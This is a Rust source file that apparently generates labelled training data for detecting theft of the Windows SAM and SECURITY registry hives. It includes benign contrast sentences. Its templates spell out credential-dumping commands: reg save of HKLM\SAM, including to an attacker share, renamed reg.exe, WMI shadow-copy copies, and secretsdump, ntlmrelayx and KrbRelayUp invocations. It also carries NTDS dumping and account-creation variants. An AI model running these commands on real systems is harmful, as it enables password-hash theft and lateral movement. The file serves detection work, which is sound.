//! WMI's ways to keys and files, registry tools besides reg.exe, forms of its arguments, relays
//! and backup operators; and sentences about the account database in which nobody takes it.

use crate::generate::family::{Family, Kind::Cmd, Kind::Sh, Kind::Told};

const WMI: &[&str] = &[
    concat!(
        r"wmic «/node:{host} ¦»/namespace:\\root\default «class¦path» StdRegProv call «EnumKey¦",
        r#"EnumValues» hDefKey="«&H80000002¦2147483650¦0x80000002»" sSubKeyName="{k}""#
    ),
    concat!(
        r#"wmic /namespace:"\\root\default" class stdregprov call GetBinaryValue hDefKey=2147483650, "#,
        r#"sSubKeyName="{k}", sValueName="«F¦V¦{stem}»""#
    ),
    r#"wmic datafile where «"name='{fd}'"¦name='{fd}'» call copy «"{dir}\\{outname}"¦'{dir}\\{outname}'»"#,
    r#"wmic «/node:"{host}" ¦»datafile where (name="{fd}") call copy "C:\\temp\\{outname}""#,
    r#"wmic path CIM_DataFile where "Name='{fd}'" call Copy "{dir}\\{outname}""#,
    concat!(
        r#"wmic shadowcopy call create Volume="C:\"«&&¦ & »wmic datafile where name="{fd}" call copy "#,
        r#""c:\\{stem}""#
    ),
    r#"powershell -c "(Get-WmiObject CIM_DataFile -Filter \"Name='{fd}'\").Copy('{dir}\{outname}')""#,
    concat!(
        r#"powershell "([wmiclass]'\\{plainhost}\root\default:StdRegProv').EnumKey(2147483650,'{k}').sNames"#,
        r#"""#
    ),
    concat!(
        r"powershell Invoke-CimMethod -Namespace root\default -ClassName StdRegProv -MethodName EnumKey ",
        "-Arguments @{hDefKey=[uint32]2147483650;sSubKeyName='{k}'}"
    ),
    concat!(
        r#"cscript //nologo {stem}.vbs & rem GetObject("winmgmts:root\default:StdRegProv").EnumKey "#,
        r#"&H80000002, "{k}", a"#
    ),
    r#"wbemtest: root\default, StdRegProv.EnumKey(0x80000002, "{k}")"#,
    concat!(
        r"wmic /output:{outfile} /namespace:\\root\default class StdRegProv call EnumValues (2147483650, ",
        r#""{k}")"#
    ),
];

const REGTOOLS: &[&str] = &[
    r#"«RegFileExport.exe¦regfileexport» «{hf}¦"{hf}"» {outfile}"#,
    "«OfflineRegistryView.exe¦OfflineRegistryFinder.exe» /«RegFolder¦LoadFrom» {hf} /stext {outfile}",
    r"«regdump.exe¦regdmp.exe¦regdmp» -m \\{host} «HKEY_LOCAL_MACHINE¦HKLM»\{k}« > {outfile}»",
    r"«regback.exe¦regback» {dir}\{outname} machine {kh}",
    "«regback¦savekey.exe» {outfile} machine {kh}",
    r"«NTRegistry.exe¦regcopy¦regexport.exe¦RegExp.exe» HKEY_LOCAL_MACHINE\{k} {outfile}",
    concat!(
        "«psexec -s -i¦nsudo -U:S¦psexec64 -accepteula -s -d -i» regedit /«e¦E» {outfile} ",
        r"HKEY_LOCAL_MACHINE\{k}"
    ),
    concat!(
        r"«psexec -s¦PsExec64.exe -accepteula -s¦gsudo -s¦nsudo -U:T» reg «query¦export» HKLM\{k}« ",
        "{outfile}¦ /s»"
    ),
    r"{reg} save HKLM\{kh}",
    r"{reg} save HKLM\{kh}\ {outfile}",
    r#"{reg} save "HKEY_LOCAL_MACHINE\{kh}" "{dir}\{outname}" /y /reg:64"#,
    r"{reg} save hklm\{kh} {outfile} /reg:64 /y",
    r#"{reg} save HKLM\{kh} "{dir}\%COMPUTERNAME%_{stem}.{anyext}""#,
    r"{reg} save HKLM\{kh} %USERNAME%.{anyext}",
    r"{reg} save HKLM\{kh} {dir}\%random%.{anyext} /y",
    r"{reg} save HKLM\{kh} \\{attacker}\{share}\%computername%.{anyext}",
    r"{reg} save HKLM\{kh} {dir}\{stem}.txt:{alnum4}",
    r"{reg} export HKLM\{kh} {dir}\%date:~-4%{stem}.reg /y",
    r"{reg} export hklm\{kh} con",
    r"{reg} save HKLM\{kh} \\.\pipe\{alnum5}",
    r"{reg} query HKLM\{k}« /s¦ /v F¦ /ve¦ /s /reg:64» > {outfile}",
    r#"{reg} query HKEY_LOCAL_MACHINE\{k} /s | «clip¦more¦findstr /i REG_BINARY¦find "0x1f4"»"#,
    r#"for /f "tokens=*" %a in ('{reg} query HKLM\{k}') do {reg} query "%a""#,
    r#"for /f "delims=" %%k in ('reg query HKLM\{k}') do @reg query "%%k" /v V"#,
    r"{reg} compare HKLM\{k} HKLM\{stem} /s /oa",
    r"{reg} copy HKLM\{k} HKCU\Software\{stem} /s /f & {reg} export HKCU\Software\{stem} {outfile}",
    r"«dsregcmd¦set __COMPAT_LAYER=RunAsInvoker» & {reg} save HKLM\{kh} {outfile}",
    concat!(
        r"copy %windir%\system32\reg.exe {dir}\{alnum3.1}.exe & {dir}\{alnum3.1}.exe save HKLM\{kh} ",
        "{outfile}"
    ),
    r"ren {dir}\reg.exe {alnum3.1}.dat & start {dir}\{alnum3.1}.dat save HKLM\{kh} {outfile}",
    concat!(
        r"{reg} load HKU\{alnum4.1} {hf} & {reg} «query¦export» HKU\{alnum4.1}« /s¦ {stem}.reg» & {reg} ",
        r"unload HKU\{alnum4.1}"
    ),
];

const RELAY: &[&str] = &[
    "{nxc} smb {nxctarget} {nxcauth} {m}",
    "{nxc} «smb¦winrm¦mssql» {nxctarget} {nxcauth} {m} «--local-auth¦--log {stem}.txt¦| tee {shout}»",
    "{py}ntlmrelayx.py -t smb://{ip} -smb2support -c '{c}'",
    r#"{py}ntlmrelayx.py -tf targets.txt -smb2support --no-http-server -c "{c}""#,
    "«KrbRelay.exe¦KrbRelayUp.exe¦DavRelayUp.exe» {kr}",
    "impacket-reg «-dc-ip {ip} ¦-hashes {hashes} ¦-k -no-pass ¦»{target} {op}",
    r"reg.py «-o \\\\{attacker}\\{share} ¦»{target} {op}",
    "{py}secretsdump.py {sd}",
    "impacket-secretsdump {sd}« | tee {shout}¦ > {shout}¦ -debug»",
    "regsecrets.py {rs}",
    r#"{python} -c "from impacket.examples.secretsdump import {imp}""#,
    r"pypykatz smb {pk} 'smb+ntlm-password://{domain}\{user}:{password}@{ip}'",
    "smbclient.py {target}⏎# use C$⏎# cd {cd}⏎# get {g}",
    "smbclient '//{ip}/C$' -U '{user}%{password}' -c 'cd {cd}; lcd {shdir}; get {g}; exit'",
    r"smbmap -u {user} -p {password} -H {ip} --download 'C$\{cdb}\{g}'",
    r"crackmapexec smb {ip} -u {user} -p {password} --get-file '\{cdb}\{g}' {stem}",
    concat!(
        "mount -t cifs -o username={user},password={password} //{ip}/C$ /mnt/{stem.1} && cp ",
        "/mnt/{stem.1}/{cd}/{g} ."
    ),
];

const NOACT: &[&str] = &[
    concat!(
        "The {db} «stores¦holds¦contains» {hash} «for local accounts¦in encrypted form¦on every Windows ",
        "machine¦since Windows NT»."
    ),
    concat!(
        "The {db} is «locked while Windows runs¦encrypted with the boot key¦readable by SYSTEM only¦",
        "mounted at start¦owned by SYSTEM»."
    ),
    concat!(
        "«No¦Nobody's¦There was no¦We found no evidence of» access to the {db}« was found¦ was seen¦»« ",
        "on {plainhost}»."
    ),
    "The {db} was «not touched¦never accessed¦not copied¦left alone»« on {plainhost}».",
    concat!(
        "«Access to¦Auditing of¦Reading» the {db} «is restricted by policy¦should be audited¦must be ",
        "limited to SYSTEM¦requires SeBackupPrivilege¦raises alert {1000..9999}»."
    ),
    "«Enable¦Configure¦Review» auditing of the {db} «with a SACL¦by Group Policy¦before {isodate}».",
    "«How do I protect¦Who may read¦Where is¦What is in¦Can I delete» the {db}?",
    "«Lesson {1..20}¦Slide {1..90}¦Question {1..50}»: the {db} and {hash}",
    concat!(
        "{first} «asked¦wrote¦explained¦gave a talk about» «how attackers dump the {db}¦what the {db} is¦",
        "why the {db} matters¦protecting the {db}»."
    ),
    concat!(
        "«LAPS¦Credential Guard¦RestrictRemoteSAM¦LSA protection¦Disabling the Remote Registry» «makes¦",
        "helps against» stolen {hash}« less useful»."
    ),
    concat!(
        "The «scanner¦audit¦checklist» «reports¦says» that the permissions of the {db} are «correct¦too ",
        "wide (CVE-2021-36934)¦unchanged»."
    ),
    "KB{digit7} fixes the permissions of the {db}.",
    "«Restart¦Start¦Query» the Security Accounts Manager service «(SamSs) ¦»on {plainhost}.",
    concat!(
        "«Rule¦Detection¦Use case» {1000..9999} «watches¦covers¦looks for» «access to the {db}¦{hash} ",
        "dumping¦registry hive exports»."
    ),
    "The alert about the {db} on {plainhost} was a «false positive¦test alert¦duplicate»: {benign}.",
    concat!(
        "SAM «stands for Security Account Manager¦is short for Security Accounts Manager¦here means ",
        "Software Asset Management¦is the name of our backup server»."
    ),
    "T1003.002 «is the id of¦covers¦describes» Security Account Manager dumping.",
    "«See¦Read¦Compare» the chapter on the {db}« by {first} {last}».",
];

const ACTS: &[(&str, &str)] = &[
    ("k", "«{secret}¦{inner}¦{inner}»"),
    ("kh", "{whole}"),
    (
        "fd",
        concat!(
            r"«C:\\Windows\\System32\\config\\{whole}¦c:\\windows\\system32\\config\\sam¦",
            r"C:\\Windows\\repair\\sam¦C:\\Windows\\System32\\config\\RegBack\\{secret}»"
        ),
    ),
    ("hf", "{samfile}"),
    (
        "m",
        concat!(
            "«--sam¦--sam¦--sam --lsa¦--sam secdump¦--sam regdump¦-M backup_operator¦--lsa --sam --no-output¦",
            "--sam --user Administrator»"
        ),
    ),
    ("py", "«{python} {impketdir}¦impacket-¦»"),
    (
        "c",
        concat!(
            r"«reg save HKLM\{whole} {outfile}¦reg save HKLM\SAM C:\\Windows\\Temp\\{stem}¦copy {shadowhive} ",
            "{outfile}»"
        ),
    ),
    (
        "kr",
        concat!(
            "«-spn cifs/{fqdn} -clsid {guid} -secrets # SAM¦-spn host/{fqdn} -clsid {guid} -reg-save SAM ",
            "{dir}¦--dump-sam {fqdn}»"
        ),
    ),
    (
        "op",
        concat!(
            r"«save -keyName 'HKLM\{secret}' -o '\\{attacker}\{share}'¦save -keyName HKLM\\SAM -o ",
            r"C:\\Windows\\Temp¦backup -o '\\{attacker}\{share}'¦query -keyName HKLM\\SAM\\SAM -s¦query ",
            r"-keyName HKLM\\SECURITY¦save -keyName 'HKLM\SYSTEM' -o {dir}»"
        ),
    ),
    (
        "sd",
        concat!(
            "«{target}¦-hashes {hashes} {user}@{rhost}¦{user}@{rhost} -no-pass -k¦",
            "'{domain}/{user}:{password}'@{ip} -outputfile {stem}¦-target-ip {ip} ",
            "{domain}/{user}:{password}@{plainhost}¦{target} -exec-method smbexec¦-use-vss {target}¦-sam ",
            "{samcopy} -system {syscopy} local¦-system {syscopy} -security {seccopy} -sam {samcopy} LOCAL ",
            "-outputfile {stem}¦-use-remoteSSMethod {target}»"
        ),
    ),
    (
        "rs",
        concat!(
            "«{target}¦-hashes {hashes} {user}@{rhost}¦{domain}/{user}:{password}@{ip} -debug¦-k -no-pass ",
            "{fqdn}»"
        ),
    ),
    (
        "imp",
        concat!(
            "LocalOperations, SAMHashes; SAMHashes('{samcopy}', LocalOperations('{syscopy}').getBootKey(), ",
            "isRemote=False).dump()"
        ),
    ),
    ("pk", "«regdump¦regdump -o {stem}¦regsec --sam»"),
    ("cd", "«Windows/System32/config¦windows/system32/config/RegBack¦Windows/repair»"),
    ("cdb", r"«Windows\System32\config¦Windows\repair¦Windows\System32\config\RegBack»"),
    ("g", "«SAM¦SECURITY¦sam»"),
];

const OTHERS: &[(&str, &str)] = &[
    ("k", "{otherkey}"),
    ("kh", "«SOFTWARE¦{softkey}¦{syskey}¦HARDWARE¦software»"),
    (
        "fd",
        concat!(
            r"«C:\\Windows\\NTDS\\ntds.dit¦c:\\users\\{first}\\{stem}.txt¦",
            r"C:\\Windows\\System32\\config\\SOFTWARE¦C:\\Windows\\System32\\drivers\\etc\\hosts¦",
            r"C:\\Users\\sam\\security.docx»"
        ),
    ),
    ("hf", r"«C:\Users\{user}\NTUSER.DAT¦{windir}\{sys32}\{cfg}\SOFTWARE¦{dir}\UsrClass.dat¦{dir}\NTUSER.DAT»"),
    (
        "m",
        concat!(
            "«--lsa¦--shares¦--users¦--ntds¦-M lsassy¦--pass-pol¦-M gpp_password¦--dpapi¦-M reg-winlogon¦-M ",
            r"reg-query -o PATH=HKLM\\SOFTWARE\\{vendor} KEY={stem}¦--samr-users¦--rid-brute»"
        ),
    ),
    ("py", "«{python} {impketdir}¦impacket-¦»"),
    (
        "c",
        concat!(
            r"«reg save HKLM\SOFTWARE {outfile}¦whoami¦net user {user} {password} /add¦copy {shadowother} ",
            "{outfile}¦powershell -enc {b64_60}»"
        ),
    ),
    (
        "kr",
        concat!(
            "«-spn ldap/{fqdn} -clsid {guid} -rbcd {sid}¦relay -d {domain} -CreateNewComputerAccount¦-spn ",
            "cifs/{fqdn} -clsid {guid} -console¦full -m shadowcred --ForceShadowCred»"
        ),
    ),
    (
        "op",
        concat!(
            r"«save -keyName 'HKLM\SOFTWARE' -o '\\{attacker}\{share}'¦query -keyName 'HKLM\{syskey}' -s¦add ",
            r"-keyName 'HKLM\{softkey}' -v {stem} -vt REG_DWORD -vd 1¦query -keyName HKU¦delete -keyName ",
            r"HKCU\\{stem}¦query -keyName 'HKLM\System\CurrentControlSet\Control\Lsa' -v RunAsPPL»"
        ),
    ),
    (
        "sd",
        concat!(
            "«-just-dc {target}¦-just-dc-ntlm {target}¦-just-dc-user krbtgt {user}@{rhost} -hashes {hashes}¦",
            "{target} -just-dc -use-vss¦-ntds {ntdscopy} -system system.hive LOCAL¦-ntds ntds.dit -bootkey ",
            "0x{hex32} LOCAL -history¦-h¦-k -no-pass -just-dc-user Administrator {fqdn}»"
        ),
    ),
    ("rs", "«-h¦--help»"),
    (
        "imp",
        concat!(
            "NTDSHashes, RemoteOperations; NTDSHashes('{ntdscopy}', key, isRemote=False, ",
            "justNTLM=True).dump()"
        ),
    ),
    ("pk", "«lsassdump¦dcsync¦shareenum¦client»"),
    ("cd", "«Users/{user}/Documents¦Windows/NTDS¦inetpub/wwwroot»"),
    ("cdb", r"«Users\{user}\Desktop¦Windows\NTDS¦{stem}»"),
    ("g", "«{stem}.docx¦ntds.dit¦sam.txt¦web.config»"),
];

pub const FAMILIES: &[Family] = &[
    Family::act("wmi-registry", "wmi-hive", "wmi-other", Cmd, WMI).slots(ACTS).weight(9),
    Family::other("wmi-registry", "wmi-other", Cmd, WMI).slots(OTHERS).weight(8),
    Family::act("registry-tools", "registry-tools-hive", "registry-tools-other", Cmd, REGTOOLS).slots(ACTS).weight(20),
    Family::other("registry-tools", "registry-tools-other", Cmd, REGTOOLS).slots(OTHERS).weight(14),
    Family::act("relay-tools", "relay-tools-hive", "relay-tools-other", Sh, RELAY).slots(ACTS).weight(18),
    Family::other("relay-tools", "relay-tools-other", Sh, RELAY).slots(OTHERS).weight(13),
    Family::other("told-no-act", "told-no-act", Told, NOACT).slots(&[
        ("db", concat!("«SAM hive¦SAM database¦SAM file¦Security Account Manager database¦Security Accounts Manager¦SAM ", "registry hive¦SECURITY hive¦local account database»")),
        ("hash", "«password hashes¦NTLM hashes¦local password hashes¦hashes of local accounts¦credentials»"),
        ("benign", concat!("«the backup agent reads it nightly¦the scanner has a service account¦{first} ran the approved ", "test plan¦the sensor matched its own update¦the host was being imaged»")),
    ]).weight(14),
];
